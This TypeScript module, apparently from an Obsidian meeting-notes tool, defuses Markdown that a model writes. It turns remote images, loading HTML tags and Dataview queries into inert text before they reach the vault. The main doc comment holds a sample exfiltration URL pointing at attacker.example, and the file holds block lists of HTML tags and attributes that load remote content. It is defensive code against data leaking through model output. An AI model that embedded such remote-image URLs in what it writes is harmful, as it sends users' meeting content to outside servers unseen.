import { replaceLinks } from '../names/replace-links.js';

/**
 * One piece of model-written Markdown that {@link defuseRemoteContent} made inert.
 * Spec: review6 S17 (remote images in model-written notes: an exfiltration channel); docs/hostile-cases.md S17.
 */
export interface DefusedItem {
  /**
   * `image`: a Markdown image (`![alt](https://…)`) now a plain link; `reference`: the definition
   * (`[ref]: https://…`) of a reference-style image (`![x][ref]`) escaped, so the image shows as text;
   * `html`: an HTML tag that loads something (`<img>`, `<iframe>`, `<video>`, `src=`/`style=` …) escaped
   * to show as text; `query`: a ```` ```dataviewjs ````/```` ```dataview ```` block renamed so no plugin runs it;
   * `inline-query`: a Dataview inline query (code whose text starts with `$=` or `=`: an inline code span, a
   * code block, an HTML `<code>`) whose prefix was escaped with a backslash (`` `\$= …` ``), so it shows as code.
   */
  kind: 'image' | 'reference' | 'html' | 'query' | 'inline-query';
  /** The item as it was written, cut to 80 characters. */
  written: string;
}

/** Tags whose element loads or runs something when Obsidian renders the note, whatever their attributes. */
const LOADING_TAGS = new Set([
  'img',
  'image',
  'picture',
  'source',
  'srcset',
  'video',
  'audio',
  'track',
  'iframe',
  'frame',
  'frameset',
  'embed',
  'object',
  'applet',
  'link',
  'meta',
  'base',
  'style',
  'script',
  'svg',
  'use',
  'feimage',
  'input',
  'form',
  'portal',
  'webview',
]);

/** An attribute that makes any element load something (an image, a background, a stylesheet URL). */
const LOADING_ATTRIBUTE =
  /(?:^|[\s"'/])(?:src|srcset|background|poster|data|lowsrc|dynsrc|xlink:href|style|formaction)\s*=/i;

/** An HTML start tag: `<name …>` (attributes may span lines; `>` inside quotes not handled: the tag then ends early and is still escaped). */
const START_TAG = /<([a-zA-Z][a-zA-Z0-9:-]*)((?:\s[^<>]*)?)\/?>/g;

/**
 * The start of a Dataview inline query in code text (after its leading white space): `$=` (DataviewJS,
 * runs JavaScript) or `=` (DQL, whose value Dataview renders as Markdown, so it can compose a remote image
 * from other notes' fields). Dataview's default prefixes; it evaluates any `<code>` whose trimmed text
 * starts with one, in inline code and (by default) in code blocks alike.
 */
const INLINE_QUERY = /^(\s*)(?=\$=|=)/;

/** An HTML `<code>` start tag whose text (after white space and other tags) starts with an inline query prefix. */
const CODE_TAG_QUERY = /<code(?=[\s>/])[^<>]*>(?:\s|<[^<>]*>)*(?:\$=|=)/gi;

/**
 * A line that may be an indented code block starting with an inline query prefix: block-quote markers,
 * then white space (at least 4 columns makes it code), then `$=`/`=`.
 */
const INDENTED_QUERY = /^((?: {0,3}>[ ]?)*)([ \t]*)(?=\$=|=)/;

/** A reference definition line: `[label]: destination …` (up to 3 spaces of indent). */
const REFERENCE_DEFINITION = /^( {0,3})\[((?:[^\][\\]|\\.){1,999})\]:[ \t]*(\S.*)$/;

/** A reference-style image: `![alt][label]`, `![label][]`, `![label]` (not followed by `(` or `[`… handled below). */
const REFERENCE_IMAGE = /(^|[^\\])!\[((?:[^\][\\]|\\.)*)\](?:\[((?:[^\][\\]|\\.)*)\])?/g;

/**
 * Whether an image destination, as Markdown reads it (unescaped, percent-decoded), may load from
 * outside the vault: a URL scheme (`https:`, `ftp:`, also `https:\\` and schemes CommonMark decodes
 * from entities, so any `:` or `&`), or a protocol-relative `//host` / `\\host`. A one-letter
 * scheme is a Windows drive (`C:/…`), local.
 */
function isRemoteTarget(target: string): boolean {
  const t = target.trim();
  if (/^[\\/]{2}/.test(t) || t.includes('&')) return true;
  const colon = t.indexOf(':');
  return colon > 1 || (colon === 1 && !/^[a-z]:[\\/]/i.test(t));
}

/** Case-folded, whitespace-collapsed reference label (CommonMark label matching). */
function labelKey(label: string): string {
  return label.replace(/\s+/g, ' ').trim().toLowerCase();
}

/** `text` cut to 80 characters for a message. */
function cut(text: string): string {
  const one = text.replace(/\s+/g, ' ');
  return one.length > 80 ? `${one.slice(0, 79)}…` : one;
}

/** A character not in `text`, to stand for code spans while the rest is rewritten. */
function freeMarker(text: string): string {
  for (let c = 0xe000; c < 0xf8ff; c++) {
    const ch = String.fromCharCode(c);
    if (!text.includes(ch)) return ch;
  }
  return '\u0000';
}

/**
 * The link text part of a Markdown image as written (`![alt](…)` → `alt`), brackets and escapes
 * as written, and the rest after its `]`.
 */
function splitImage(written: string): { inner: string; rest: string } {
  let depth = 0;
  for (let i = 1; i < written.length; i++) {
    const ch = written[i];
    if (ch === '\\') i++;
    else if (ch === '[') depth++;
    else if (ch === ']' && --depth === 0) return { inner: written.slice(2, i), rest: written.slice(i + 1) };
  }
  return { inner: '', rest: written.slice(1) };
}

/** `host/path` of a URL for a link's text, or `remote image`. */
function where(target: string): string {
  try {
    const url = new URL(target.trim().replace(/^[\\/]{2}/, 'https://'));
    return `${url.host}${url.pathname === '/' ? '' : url.pathname}`.replace(/[[\]\\]/g, '') || 'remote image';
  } catch {
    return 'remote image';
  }
}

/** Prose (no fences): images, reference definitions and loading HTML defused; inline code spans untouched. */
function defuseProse(prose: string, keep: string, out: DefusedItem[]): string {
  // 0. A line indented as code (4 columns, inside quotes too) starting with a Dataview prefix: escaped
  // (in a paragraph `\=` and `\$` still show as `=` and `$`).
  const indented = prose.split('\n').map((line) => {
    const m = INDENTED_QUERY.exec(line);
    if (m === null || keep.includes(line)) return line;
    const ws = m[2] ?? '';
    const columns = [...ws].reduce((n, ch) => (ch === '\t' ? n + 4 - (n % 4) : n + 1), 0);
    if (columns < 4) return line;
    out.push({ kind: 'inline-query', written: cut(line) });
    return `${line.slice(0, m[0].length)}\\${line.slice(m[0].length)}`;
  });
  // Inline code spans render as text: kept as they are (stood in for by a marker meanwhile), but a
  // Dataview inline query (`` `$= …` ``, `` `= …` ``) gets its prefix escaped so no plugin runs it.
  const marker = freeMarker(prose);
  const spans: string[] = [];
  let text = indented.join('\n').replace(/(`+)(?:(?!\1)[\s\S])*?[^`]\1(?!`)/g, (span, ticks: string) => {
    const query = INLINE_QUERY.exec(span.slice(ticks.length));
    if (query !== null && !keep.includes(span)) {
      out.push({ kind: 'inline-query', written: cut(span) });
      const at = ticks.length + (query[1]?.length ?? 0);
      spans.push(`${span.slice(0, at)}\\${span.slice(at)}`);
    } else spans.push(span);
    return `${marker}${spans.length - 1}${marker}`;
  });
  // 1. Inline images `![alt](https://…)`: a plain link `[alt](…)` (`[image: host/path](…)` without alt text).
  text = replaceLinks(text, (found, written) => {
    if (!found.embed || found.link.form !== 'markdown' || !isRemoteTarget(found.link.target)) return written;
    if (keep.includes(written)) return written;
    out.push({ kind: 'image', written: cut(written) });
    const { inner, rest } = splitImage(written);
    return `[${inner.trim() === '' ? `image: ${where(found.link.target)}` : inner}]${rest}`;
  });
  // 2. Reference-style images whose definition is remote: the definition escaped (`\[ref]: …`), so
  // Markdown no longer resolves it and the image reads as its text.
  const imageLabels = new Set<string>();
  for (const m of text.matchAll(REFERENCE_IMAGE)) {
    const label = m[3] !== undefined && m[3].trim() !== '' ? m[3] : (m[2] ?? '');
    if (label.trim() !== '') imageLabels.add(labelKey(label));
  }
  if (imageLabels.size > 0) {
    text = text
      .split('\n')
      .map((line) => {
        const def = REFERENCE_DEFINITION.exec(line);
        if (def === null || !imageLabels.has(labelKey(def[2] ?? ''))) return line;
        const dest = (def[3] ?? '').replace(/^<([^>]*)>.*$/, '$1').split(/\s/)[0] ?? '';
        if (!isRemoteTarget(dest) || keep.includes(line)) return line;
        out.push({ kind: 'reference', written: cut(line) });
        return `${def[1]}\\${line.slice((def[1] ?? '').length)}`;
      })
      .join('\n');
  }
  // 3. HTML that loads something: the tag's `<` written as `&lt;`, so it shows as text.
  text = text.replace(START_TAG, (tag, name: string, attributes: string) => {
    if (!LOADING_TAGS.has(name.toLowerCase()) && !LOADING_ATTRIBUTE.test(attributes)) return tag;
    if (keep.includes(tag)) return tag;
    out.push({ kind: 'html', written: cut(tag) });
    return `&lt;${tag.slice(1)}`;
  });
  // 4. An HTML `<code>` holding a Dataview inline query: escaped like a loading tag.
  text = text.replace(CODE_TAG_QUERY, (tag) => {
    if (keep.includes(tag)) return tag;
    out.push({ kind: 'inline-query', written: cut(tag) });
    return `&lt;${tag.slice(1)}`;
  });
  return spans.length === 0
    ? text
    : text.replace(new RegExp(`${marker}(\\d+)${marker}`, 'g'), (_m, i: string) => spans[Number(i)] ?? '');
}

/**
 * Makes model-written Markdown inert in Obsidian before it is written into the vault: nothing in it
 * may load from the web (or run) when the note is shown, since a URL the model writes can carry
 * meeting content to any server (`![](https://attacker.example/p.png?q=<decisions>)`), from every
 * device the vault syncs to, with no click. Keeps the text readable:
 * - a remote Markdown image `![alt](https://…)` becomes the plain link `[alt](https://…)`
 *   (`[image: host/path](…)` when it had no alt text); local images (`![](diagram.png)`) and
 *   `![[embeds]]` stay;
 * - a reference-style image (`![x][ref]`, `![ref][]`, `![ref]`) whose definition `[ref]: https://…`
 *   is remote: the definition is escaped (`\[ref]: …`), so both read as text;
 * - an HTML start tag of an element that loads or runs something (`<img>`, `<iframe>`, `<video>`,
 *   `<audio>`, `<source>`, `<object>`, `<embed>`, `<link>`, `<style>`, `<svg>`, …) or with an attribute
 *   that does (`src`, `srcset`, `background`, `poster`, `data`, `style`, …): its `<` becomes `&lt;`, so
 *   the tag shows as text;
 * - a ```` ```dataviewjs ```` / ```` ```dataview ```` code block (run by the Dataview plugin when shown):
 *   its language becomes `defused-dataviewjs` / `defused-dataview`, shown as code;
 * - a Dataview inline query, i.e. code whose text starts with `$=` (JavaScript) or `=` (DQL; its value is
 *   rendered as Markdown, so it can build a remote image from other notes): an inline code span
 *   (`` `$= dv.…` `` → `` `\$= dv.…` ``), the first line of a fenced code block, a line indented as code,
 *   an HTML `<code>` (its `<` becomes `&lt;`). Dataview's default prefixes; a vault that configured
 *   other prefixes is not covered.
 * Code blocks and inline code spans are otherwise left alone (they render as text). Line count and
 * line breaks never change, so line numbers of a write stay valid. Idempotent. Pure; never throws.
 *
 * @param text - Markdown the model wrote (a summary body, context notes, a project file, a saved prompt)
 * @param opts - `keep`: text already in the file before the write (a user's own images there stay):
 *   an image, tag or definition written exactly as in `keep` is left alone
 * @returns the defused text and the items changed, in order (empty: `text` unchanged)
 * Spec: review6 S17; docs/hostile-cases.md S17; the offline engine's rule (transcript embeds become links,
 *   tags dropped) applied to every write of model text.
 */
export function defuseRemoteContent(
  text: string,
  opts: { keep?: string } = {},
): { text: string; defused: DefusedItem[] } {
  const defused: DefusedItem[] = [];
  if (!/[<!=]|```|~~~/.test(text)) return { text, defused };
  const keep = opts.keep ?? '';
  const lines = text.split('\n');
  const out: string[] = [];
  let prose: string[] = [];
  const flush = () => {
    if (prose.length > 0) out.push(defuseProse(prose.join('\n'), keep, defused));
    prose = [];
  };
  let fence: { char: string; length: number; content: boolean } | null = null;
  for (const line of lines) {
    if (fence === null) {
      const open = /^( {0,3})(`{3,}|~{3,})(.*)$/.exec(line);
      if (open === null || (open[2]?.startsWith('`') && open[3]?.includes('`'))) {
        prose.push(line);
        continue;
      }
      flush();
      const marks = open[2] as string;
      fence = { char: marks.charAt(0), length: marks.length, content: false };
      const info = open[3] as string;
      const query = /^(\s*)(dataviewjs|dataview)(?![\w-])/i.exec(info);
      if (query !== null && !keep.includes(line)) {
        defused.push({ kind: 'query', written: cut(line) });
        out.push(`${open[1]}${marks}${query[1]}defused-${info.slice(query[1]?.length ?? 0)}`);
      } else out.push(line);
      continue;
    }
    const close = /^ {0,3}(`{3,}|~{3,})\s*$/.exec(line);
    if (close !== null && close[1]?.charAt(0) === fence.char && (close[1]?.length ?? 0) >= fence.length) {
      out.push(line);
      fence = null;
      continue;
    }
    // The block's text starts with a Dataview inline query prefix: Dataview evaluates it (by default).
    const query = fence.content || line.trim() === '' ? null : INLINE_QUERY.exec(line);
    if (line.trim() !== '') fence.content = true;
    if (query !== null && !keep.includes(line)) {
      defused.push({ kind: 'inline-query', written: cut(line) });
      const at = query[1]?.length ?? 0;
      out.push(`${line.slice(0, at)}\\${line.slice(at)}`);
    } else out.push(line);
  }
  flush();
  return { text: defused.length === 0 ? text : out.join('\n'), defused };
}

/**
 * The clause a write's result (or a run's warning) adds when {@link defuseRemoteContent} changed
 * something: how many of each kind, the first one, why, and that they are now plain text/links;
 * `''` for none.
 * Spec: review6 S17 (say what was defused, so the model and the user know why the text differs).
 * @param defused - the items of one write
 * @returns e.g. `defused 2 items Obsidian would load from the web when the note is shown (1 remote image, 1 HTML tag; first: "<img src=…>"): written as plain links and text, which load nothing`
 */
export function defusedNotice(defused: readonly DefusedItem[]): string {
  if (defused.length === 0) return '';
  const kinds: Record<DefusedItem['kind'], [string, string]> = {
    image: ['remote image', 'remote images'],
    reference: ['reference to a remote image', 'references to remote images'],
    html: ['HTML tag', 'HTML tags'],
    query: ['Dataview query block', 'Dataview query blocks'],
    'inline-query': ['Dataview inline query', 'Dataview inline queries'],
  };
  const counts = new Map<DefusedItem['kind'], number>();
  for (const d of defused) counts.set(d.kind, (counts.get(d.kind) ?? 0) + 1);
  const parts = [...counts].map(([k, n]) => `${n} ${kinds[k][n === 1 ? 0 : 1]}`);
  const n = defused.length;
  return `defused ${n} item${n === 1 ? '' : 's'} Obsidian would load from the web or run when the note is shown (${parts.join(', ')}; first: ${JSON.stringify(defused[0]?.written)}): written as plain links and text, which load nothing (a URL in a note can carry meeting content to its server)`;
}
